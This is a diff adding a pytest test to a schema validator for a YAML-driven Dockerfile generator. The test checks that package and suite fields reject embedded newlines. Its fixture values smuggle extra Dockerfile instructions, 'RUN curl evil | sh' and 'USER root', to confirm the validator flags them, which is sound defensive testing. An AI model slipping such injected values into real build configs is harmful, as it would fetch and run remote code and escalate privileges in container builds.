@@ -80,6 +80,16 @@ def test_kernel_and_base_names_follow_the_same_grammar(tmp_path):
     assert error.line == text.splitlines().index('    "bad name": {strategy: debootstrap}') + 1
 
 
+def test_values_that_reach_dockerfile_lines_are_single_tokens(tmp_path):
+    """A newline in a package, version or base field would start a new instruction."""
+    text = MINI.replace("    package: sglang\n", '    package: "sglang\\nRUN curl evil | sh"\n')
+    text = text.replace("{strategy: debootstrap, suite: bookworm}",
+                        '{strategy: debootstrap, suite: "bookworm\\nUSER root"}')
+    messages = [e.message for e in problems(write(tmp_path, text))]
+    assert any(m.startswith("engines.sglang.package:") for m in messages), messages
+    assert any(m.startswith("bases.definitions.bookworm.suite:") for m in messages), messages
+
+
 def test_schema_patterns_refuse_a_trailing_newline(tmp_path):
     """Python's `$` matches before a final newline; the schema's ECMA `$` does not."""
     path = write(tmp_path, MINI.replace("arch: cpu}", 'arch: "cpu\\n"}'))
